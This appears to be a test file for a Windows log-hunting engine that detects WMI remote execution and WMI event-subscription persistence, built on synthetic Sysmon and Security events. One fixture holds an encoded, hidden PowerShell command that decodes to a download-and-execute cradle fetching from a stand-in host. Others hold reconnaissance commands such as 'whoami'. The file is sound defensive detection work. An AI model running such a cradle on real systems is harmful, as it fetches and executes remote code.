import assert from 'node:assert/strict';
import { test } from 'node:test';
import { coverageOf, madeEvents } from '../../test/made-event.ts';
import { type EventModel, security, sysmon } from '../../testkit/index.ts';
import type { Event } from '../windows/index.ts';
import { Engine, type EngineResult } from './engine.ts';
import type { AnalyticFinding as Finding } from './finding.ts';

const COMPUTER = 'SRV-02.corp.example.com';
const ALICE = { sid: 'S-1-5-21-1-2-3-1104', name: 'alice', domain: 'CORP' };
const WMIPRVSE = 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe';
const SCRCONS = 'C:\\Windows\\System32\\wbem\\scrcons.exe';
const SVCHOST = 'C:\\Windows\\System32\\svchost.exe';
const CMD = 'C:\\Windows\\System32\\cmd.exe';
const CALC = 'C:\\Windows\\System32\\calc.exe';

function at(time: string): { computer: string; time: string } {
  return { computer: COMPUTER, time: `2026-03-12T${time}Z` };
}

function hunt(models: readonly EventModel[]): EngineResult {
  return huntEvents(madeEvents(models));
}

function huntEvents(events: readonly Event[]): EngineResult {
  const engine = new Engine({ coverage: coverageOf(events) });
  for (const event of events) engine.accept(event);
  const result = engine.finish();
  // What is found about dossiers is tried in subscriptions.test.ts, of the text of a command (S01) in acts.test.ts.
  const isOfStart = ({ process, analytic }: Finding): boolean => process !== undefined && analytic !== 'S01';
  return { ...result, findings: result.findings.filter(isOfStart) };
}

function logon(type = 3, address = '10.0.0.7', time = '09:00:00.1000000'): EventModel {
  return security.logon({ account: ALICE, logonId: 0xa1n, type, address, port: 50001, workstation: 'WS-07' }, at(time));
}

/** A child of WmiPrvSE as Sysmon tells it. */
function child(image: string, commandLine: string, over: { logonId?: bigint; time?: string } = {}): EventModel {
  const { logonId = 0xa1n, time = '09:00:00.2000000' } = over;
  const user = logonId === 0x3e7n ? 'NT AUTHORITY\\SYSTEM' : 'CORP\\alice';
  return sysmon.process(
    { pid: 3396, image, commandLine, user, logonId, parentPid: 2760, parentImage: WMIPRVSE },
    at(time),
  );
}

function brief(findings: readonly Finding[]): (readonly [string, string, number, string])[] {
  return findings.map((finding) => [finding.analytic, finding.level, finding.score, finding.title]);
}

function terms(finding: Finding | undefined): string[] {
  return finding?.terms.map((term) => `${term.code} ${term.points}`) ?? [];
}

function only(findings: readonly Finding[]): Finding {
  const [finding] = findings;
  assert.ok(finding !== undefined && findings.length === 1, `${findings.length} findings`);
  return finding;
}

test('R01: a child under the logon of a remote caller names account, address and program', () => {
  const { findings } = hunt([logon(), child(CALC, 'calc')]);
  assert.deepEqual(brief(findings), [
    ['R01', 'medium', 40, 'CORP\\alice from 10.0.0.7 (says it is WS-07) started calc.exe on SRV-02 through WMI'],
  ]);
  const finding = only(findings);
  assert.deepEqual(finding.process, {
    image: CALC,
    commandLine: 'calc',
    pid: 3396,
    user: 'CORP\\alice',
    parentImage: WMIPRVSE,
    parentPid: 2760,
    logonId: '0xa1',
  });
  assert.deepEqual(
    finding.candidates.map((c) => [c.join, c.strength, c.account, c.address, c.ports]),
    [['J1', 'exact', 'CORP\\alice', '10.0.0.7', [50001]]],
  );
  assert.deepEqual(
    finding.evidence.map((item) => item.eventId),
    [1, 4624],
  );
  assert.deepEqual(
    [finding.scope, finding.hosts, finding.accounts],
    ['wmi', ['srv-02.corp.example.com', '10.0.0.7'], ['CORP\\alice']],
  );
});

test('R01: an interpreter adds RX1 and is not counted again as P03', () => {
  const finding = only(hunt([logon(), child(CMD, 'cmd.exe /c whoami')]).findings);
  assert.deepEqual(terms(finding).slice(0, 2), ['BASE 40', 'RX1 25']);
  assert.equal(
    terms(finding).some((term) => term.startsWith('P03')),
    false,
  );
});

test('R01: a caller of this machine is low and the title says so', () => {
  assert.deepEqual(brief(hunt([logon(3, '127.0.0.1'), child(CALC, 'calc')]).findings), [
    ['R01', 'low', 20, 'CORP\\alice started calc.exe on SRV-02 through WMI, locally'],
  ]);
  assert.deepEqual(brief(hunt([logon(2, '-'), child(CALC, 'calc')]).findings), [
    ['R01', 'low', 20, 'CORP\\alice started calc.exe on SRV-02 through WMI, locally'],
  ]);
});

test('R01: a logon after the child, or with another LogonId, carries nothing: S05', () => {
  for (const models of [
    [logon(3, '10.0.0.7', '09:00:00.3000000'), child(CALC, 'calc')],
    [logon(), child(CALC, 'calc', { logonId: 0xa2n })],
  ]) {
    assert.deepEqual(brief(hunt(models).findings), [
      ['S05', 'low', 20, 'WMI started calc.exe on SRV-02 as CORP\\alice; its caller is not in the logs'],
    ]);
  }
});

/** The start of WmiPrvSE and of a child as a 4688 of version 1 tells them: no parent, no Target. */
function oldChild(time: string): EventModel[] {
  const subject = security.subject(security.machineAccount(COMPUTER), 0x3e4n);
  return [
    security.processCreation(
      { pid: 0xae8n, image: WMIPRVSE, creatorPid: 4n, subject },
      { ...at('08:59:00.0000000'), version: 1 },
    ),
    security.processCreation({ pid: 0x424n, image: CALC, creatorPid: 0xae8n, subject }, { ...at(time), version: 1 }),
  ];
}

test('R01: a child without a LogonId of its own is joined to the only caller of the 2 s before, weakly (trap 52)', () => {
  const finding = only(hunt([logon(), ...oldChild('09:00:00.2000000')]).findings);
  assert.deepEqual(
    [finding.analytic, finding.level, finding.title, finding.candidates.map((c) => c.strength), finding.process?.user],
    [
      'R01',
      'medium',
      'CORP\\alice from 10.0.0.7 (says it is WS-07) probably started calc.exe on SRV-02 through WMI',
      ['weak'],
      undefined,
    ],
  );
  assert.deepEqual(
    finding.evidence.map((item) => item.eventId),
    [4688, 4688, 4624],
    'the start of the parent that its process id names is evidence too',
  );
});

test('R01: two callers in the 2 s before, or one 3 s before, name nobody', () => {
  const second = security.logon(
    { account: ALICE, logonId: 0xb1n, address: '10.0.0.8', port: 5 },
    at('09:00:00.1500000'),
  );
  const two = only(hunt([logon(), second, ...oldChild('09:00:00.2000000')]).findings);
  assert.deepEqual([two.analytic, two.candidates.length], ['S05', 2], 'both are listed');
  const late = only(hunt([logon(), ...oldChild('09:00:03.2000000')]).findings);
  assert.deepEqual([late.analytic, late.candidates.length], ['S05', 0]);
});

test('S05: a listed program is medium, an excluded one is no finding (A3)', () => {
  assert.deepEqual(only(hunt([child(CMD, 'cmd.exe')]).findings).terms[0]?.points, 40);
  assert.deepEqual(only(hunt([child('C:\\Windows\\System32\\whoami.exe', 'whoami')]).findings).terms[0]?.points, 40);
  assert.deepEqual(hunt([child('C:\\Windows\\System32\\WerFault.exe', 'WerFault -u')]).findings, []);
  assert.deepEqual(hunt([logon(), child('C:\\Windows\\System32\\WerFault.exe', 'WerFault -u')]).findings, []);
});

test('S05: a WMI client under the same logon says that the call was local; one that WMI itself started does not', () => {
  const client = sysmon.process(
    {
      pid: 11,
      image: 'C:\\Windows\\System32\\cscript.exe',
      commandLine: 'cscript //nologo C:\\Windows\\System32\\winrm.vbs i c wmicimv2/Win32_Process',
      logonId: 0xa1n,
      parentImage: CMD,
    },
    at('08:59:59.5000000'),
  );
  const title = (models: readonly EventModel[]): string | undefined => hunt(models).findings.at(-1)?.title;
  assert.equal(
    title([client, child(CALC, 'calc')]),
    'WMI started calc.exe on SRV-02 as CORP\\alice, locally: winrm.vbs (cscript.exe) ran under the same logon 0.7 s before',
  );
  assert.equal(
    title([child(CMD, 'cmd /c winrm.vbs', { time: '08:59:59.0000000' }), client, child(CALC, 'calc')]),
    'WMI started calc.exe on SRV-02 as CORP\\alice; its caller is not in the logs',
  );
});

const FILTER = sysmon.filter(
  {
    name: 'UpdaterFilter',
    query: "select * from __InstanceCreationEvent within 10 where TargetInstance isa 'Win32_Service'",
  },
  at('08:50:00.0000000'),
);

function triad(kind: 'command' | 'script', destination: string): EventModel[] {
  const isScript = kind === 'script';
  return [
    FILTER,
    sysmon.consumer(
      { name: 'Updater', destination, type: isScript ? 'Script' : 'Command Line' },
      at('08:50:00.1000000'),
    ),
    sysmon.binding(
      {
        filter: 'UpdaterFilter',
        consumer: 'Updater',
        consumerClass: isScript ? 'ActiveScriptEventConsumer' : 'CommandLineEventConsumer',
      },
      at('08:50:00.2000000'),
    ),
  ];
}

test('C03: the command of a subscription as SYSTEM is its firing, and names the subscription and its creator', () => {
  const { findings, dossiers } = hunt([...triad('command', CMD), child(CMD, CMD, { logonId: 0x3e7n })]);
  assert.deepEqual(
    findings.map((finding) => [finding.analytic, finding.title, finding.accounts, finding.subscriptions]),
    [
      [
        'C03',
        "Subscription 'Updater' of CORP\\alice ran cmd.exe as NT AUTHORITY\\SYSTEM on SRV-02",
        ['CORP\\alice'],
        [dossiers[0]?.id],
      ],
    ],
  );
  assert.equal(terms(findings[0])[0], 'BASE 65');
});

test('J24: a firing whose command line equals the text of the consumer says so; one by its bare program is J15 alone', () => {
  const joins = (payload: string, line: string): readonly string[] =>
    hunt([...triad('command', payload), child(CMD, line, { logonId: 0x3e7n })]).judged.flatMap((judged) =>
      judged.finding.analytic === 'C03'
        ? ['C03', ...judged.joins.map(({ join, strength }) => `${join} ${strength}`)]
        : [],
    );
  assert.deepEqual(joins(`${CMD} /c ping`, `${CMD} /c ping`), ['C03', 'J24 exact']);
  assert.deepEqual(joins(CMD, 'cmd.exe'), ['C03']);
});

test('C03: another command, or the same as a user, is no firing', () => {
  assert.deepEqual(
    [
      hunt([...triad('command', CMD), child(CALC, 'calc', { logonId: 0x3e7n })]),
      hunt([...triad('command', CMD), child(CMD, CMD)]),
    ].map((result) => only(result.findings).analytic),
    ['S05', 'S05'],
  );
});

const HOST_START = sysmon.process(
  { pid: 900, image: SCRCONS, commandLine: `${SCRCONS} -Embedding`, parentImage: SVCHOST, parentPid: 700 },
  at('09:00:00.0000000'),
);
const SCRIPT_CHILD = sysmon.process(
  { pid: 901, image: CMD, commandLine: 'cmd /c ping', parentImage: SCRCONS, parentPid: 900 },
  { ...at('09:01:00.0000000') },
);

test('C04: the script host of a known script subscription, with its children as evidence', () => {
  const { findings } = hunt([...triad('script', 'WScript.Echo 1'), HOST_START, SCRIPT_CHILD]);
  assert.deepEqual(
    findings.map((finding) => [finding.analytic, finding.title, finding.process?.pid, finding.evidence.length]),
    [['C04', "Subscription 'Updater' of CORP\\alice fired on SRV-02: scrcons.exe started; it started cmd.exe", 900, 2]],
  );
});

test('S06: a script host of no known subscription is medium alone, high with a child, and one finding a process', () => {
  assert.deepEqual(brief(hunt([HOST_START]).findings), [
    ['S06', 'medium', 40, 'A script consumer ran on SRV-02; its subscription is not in the logs'],
  ]);
  const withChild = only(hunt([HOST_START, SCRIPT_CHILD]).findings);
  assert.deepEqual(
    [withChild.analytic, withChild.terms[0]?.points, withChild.title],
    ['S06', 65, 'A script consumer ran on SRV-02; it started cmd.exe; its subscription is not in the logs'],
  );
});

test('S06: a script host whose start is not in the logs is known by its children', () => {
  const finding = only(hunt([SCRIPT_CHILD]).findings);
  assert.deepEqual([finding.analytic, finding.process?.pid, finding.evidence.length], ['S06', 900, 1]);
});

test('a process of both logs is one finding whose aliases are what each log alone would have given (A4)', () => {
  const audited = security.processCreation(
    {
      pid: 3396n,
      image: CALC,
      commandLine: 'calc',
      creatorPid: 2760n,
      creatorImage: WMIPRVSE,
      subject: security.subject(security.machineAccount(COMPUTER), 0x3e4n),
      target: security.target(ALICE),
      targetLogonId: 0xa1n,
    },
    at('09:00:01.0500000'),
  );
  const both = only(hunt([logon(), child(CALC, 'calc'), audited]).findings);
  const sysmonOnly = only(hunt([logon(), child(CALC, 'calc')]).findings);
  const auditOnly = only(hunt([logon(), audited]).findings);
  const withoutLogon = only(hunt([child(CALC, 'calc')]).findings);
  assert.equal(both.id, sysmonOnly.id);
  assert.equal(both.aliases.includes(auditOnly.id), true);
  assert.equal(both.aliases.includes(withoutLogon.id), true);
  assert.equal(both.aliases.includes(both.id), false);
  assert.deepEqual(
    both.evidence.map((item) => item.eventId),
    [1, 4688, 4624],
  );
});

test('a start that a foreign template decoded says so (A16)', () => {
  const told = (isForeignTemplate: boolean): string | undefined =>
    only(
      huntEvents(
        madeEvents([child(CALC, 'calc')]).map((event) => ({
          ...event,
          isForeignTemplate,
          detach: () => ({ ...event, isForeignTemplate }),
        })),
      ).findings,
    ).terms[0]?.text;
  assert.equal(told(false), 'WMI started a program; its caller is not in evidence');
  assert.equal(
    told(true),
    'WMI started a program; its caller is not in evidence; inferred: decoded by a template of another chunk',
  );
});

test('the payload weights of a long sum are all printed, and what is above the cap is taken off again', () => {
  const line =
    'powershell -nop -w hidden -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAvAGEAJwApAA==';
  const finding = only(hunt([child('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', line)]).findings);
  const sum = finding.terms.reduce((total, term) => total + term.points, 0);
  assert.deepEqual([sum, finding.score, finding.level], [80, 80, 'critical']);
  assert.equal(finding.terms.at(-1)?.code, 'PCAP');
});

test('L8: order within a second of equal times, and the split of files, do not change the answer', () => {
  const events = madeEvents([
    ...triad('command', CMD),
    logon(),
    child(CMD, 'cmd /c x'),
    child(CMD, CMD, { logonId: 0x3e7n, time: '09:05:00.0000000' }),
    HOST_START,
    SCRIPT_CHILD,
  ]);
  const straight = huntEvents(events);
  const ids = (result: EngineResult): unknown => [
    result.dossiers.map((d) => d.id),
    result.findings.map((f) => [f.id, f.title, f.score]),
  ];
  const swapped = [...events];
  const [first, second] = [swapped[3], swapped[4]];
  if (first !== undefined && second !== undefined) swapped.splice(3, 2, second, first);
  assert.deepEqual(ids(huntEvents(swapped)), ids(straight));
});

test('L15: a flood of children on one host loses its own lightest ones, counted, and no finding of another host', () => {
  const flood = Array.from({ length: 6000 }, (_, n) =>
    sysmon.process(
      { pid: 4 * n, image: CALC, commandLine: 'calc', logonId: 0xb1n, user: 'CORP\\bob', parentImage: WMIPRVSE },
      {
        computer: 'FLOOD.corp.example.com',
        time: `2026-03-12T09:${String(10 + (n % 50)).padStart(2, '0')}:00.0010000Z`,
      },
    ),
  );
  const listed = sysmon.process(
    { pid: 99_999, image: CMD, commandLine: 'cmd /c whoami', logonId: 0xb1n, parentImage: WMIPRVSE },
    { computer: 'FLOOD.corp.example.com', time: '2026-03-12T10:30:00.0010000Z' },
  );
  const { findings, evicted } = hunt([logon(), child(CALC, 'calc'), ...flood, listed]);
  assert.equal(findings.filter((finding) => finding.host === 'srv-02.corp.example.com').length, 1);
  assert.equal(
    findings.some((finding) => finding.process?.pid === 99_999),
    true,
  );
  assert.equal(findings.length + (evicted['processCases'] ?? 0), 6002);
  assert.ok(findings.length <= 5001);
});

test('every record that a result cites is handed out whole, and no other', () => {
  const result = hunt([
    logon(),
    child(CALC, 'calc'),
    child('C:\\Windows\\System32\\WerFault.exe', 'x', { time: '10:00:00.0000000' }),
  ]);
  const cited = result.findings.flatMap((finding) => finding.evidence.map((item) => item.record)).sort();
  assert.deepEqual(result.records.map((record) => record.id).sort(), cited);
});
